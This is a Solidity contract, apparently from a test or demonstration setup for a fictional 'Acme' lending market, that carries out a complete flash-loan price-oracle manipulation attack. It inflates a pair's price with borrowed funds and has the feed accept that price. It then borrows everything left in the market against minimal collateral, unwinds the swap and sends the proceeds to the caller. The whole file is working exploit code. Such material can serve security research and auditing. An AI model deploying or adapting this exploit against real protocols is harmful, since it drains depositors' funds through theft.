// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AcmeFeed} from "../AcmeFeed.sol";
import {AcmeMarket, IFlashBorrower} from "../AcmeMarket.sol";
import {AcmePair} from "../AcmePair.sol";

/// @title Drives the pair's price up with a flash loan, has the feed believe it, borrows what is left in the market
/// against little collateral, and sells the rest again.
contract PriceManipulation is IFlashBorrower {
    AcmeMarket private immutable market;
    AcmePair private immutable pair;
    AcmeFeed private immutable feed;
    IERC20 private immutable dollar;
    IERC20 private immutable acme;

    constructor(AcmeMarket market_) {
        market = market_;
        feed = market_.feed();
        pair = feed.pair();
        dollar = market_.dollar();
        acme = market_.collateral();
    }

    /// The gain goes to the caller.
    function strike(uint256 loan) external {
        market.flashLoan(loan, "");
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }

    function onFlashLoan(uint256 loan, bytes calldata) external {
        dollar.approve(address(pair), loan);
        pair.swap(dollar, loan, 0, address(this));
        feed.refresh();

        _borrowTheRest();

        uint256 unsold = acme.balanceOf(address(this));
        acme.approve(address(pair), unsold);
        pair.swap(acme, unsold, 0, address(this));
        feed.refresh();
        dollar.approve(address(market), loan);
    }

    /// With just the collateral that the false price demands.
    function _borrowTheRest() private {
        uint256 available = dollar.balanceOf(address(market));
        (, int256 price,,,) = feed.latestRoundData();
        uint256 needed = (available * 1e24) / (uint256(price) * market.loanToValueBps()) + 1;
        acme.approve(address(market), needed);
        market.addCollateral(needed);
        market.borrow(available);
    }
}
